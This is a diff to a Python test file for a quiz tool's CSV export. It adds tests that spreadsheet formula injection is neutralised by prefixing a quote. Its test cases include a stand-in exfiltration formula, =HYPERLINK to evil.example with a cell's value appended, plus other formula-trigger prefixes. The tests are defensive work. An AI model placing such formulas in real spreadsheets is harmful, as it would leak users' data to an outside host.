@@ -4,9 +4,15 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 from pathlib import Path
 
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
 from quizgen.lms import ExportOptions
+from quizgen.lms.csv import inert
 from tests.conftest import GOOD
 from tests.lms.conftest import ALL_BANKS, exported
 
@@ -44,7 +50,8 @@ def test_hostile_text_is_quoted_and_stays_text() -> None:
             "Fill in ~ the = blank: A {brace}, a #hash and ___ then \\ more [b1] text.",
             "a ~tilde = sign: #1",
         ] in rows
-        assert ["How much is #5 {plus} 2:?", "-2.5 \u00b1 0.5 m/s {SI}"] in rows
+        # Not a plain number: a spreadsheet would run it, so it is made inert (OWASP).
+        assert ["How much is #5 {plus} 2:?", "'-2.5 \u00b1 0.5 m/s {SI}"] in rows
 
 
 def test_what_a_card_cannot_carry_is_reported(write_bank: object) -> None:
@@ -76,3 +83,34 @@ def test_a_line_break_is_reported(write_bank) -> None:  # type: ignore[no-untype
     result, kept = exported("csv", bank)
     assert [(d.line, d.col, d.code) for d in result.diagnostics] == [(6, 13, "QG205")]
     assert result.data is None and kept == []
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        ('=HYPERLINK("http://evil.example/?leak="&A1)', '\'=HYPERLINK("http://evil.example/?leak="&A1)'),
+        ("-> the arrow", "'-> the arrow"),
+        ("+7 days", "'+7 days"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("  =1+1", "'  =1+1"),
+        ("\t=1", "'\t=1"),
+        ("\rcmd", "'\rcmd"),
+        ("-3.5 \u00b1 0.5 \u00b0C", "'-3.5 \u00b1 0.5 \u00b0C"),
+        ("-3.5", "-3.5"),
+        ("+2", "+2"),
+        (" -0.25 ", " -0.25 "),
+        ("Minsk = capital", "Minsk = capital"),
+    ],
+)
+def test_a_cell_a_spreadsheet_would_run_is_inert(cell: str, written: str) -> None:
+    assert inert(cell) == written
+
+
+@given(st.text(alphabet=" =+-@\t\r0123456789.aZ(", max_size=12))
+def test_no_written_cell_starts_a_formula(cell: str) -> None:
+    out = inert(cell)
+    if out == cell:  # left as it is: only a plain number may start like a formula
+        starts = out.lstrip(" ")[:1] in ("=", "+", "-", "@") or out[:1] in ("\t", "\r")
+        assert not starts or re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)", out.strip())
+    else:
+        assert out == "'" + cell
